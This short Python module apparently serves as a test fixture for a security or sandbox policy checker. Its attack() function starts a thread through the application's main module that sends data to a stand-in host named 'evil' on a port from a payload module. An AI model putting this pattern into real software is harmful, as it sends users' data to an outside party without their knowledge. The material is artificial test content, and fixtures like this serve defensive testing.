"""The application starts a thread for what it is given."""
CATEGORY = "borrowed"
REACH = "net"
POLICY = {"$walk": "strict"}

from . import payload


def attack():
    import __main__
    import good
    __main__.start(good.send, "evil", payload.PORT)
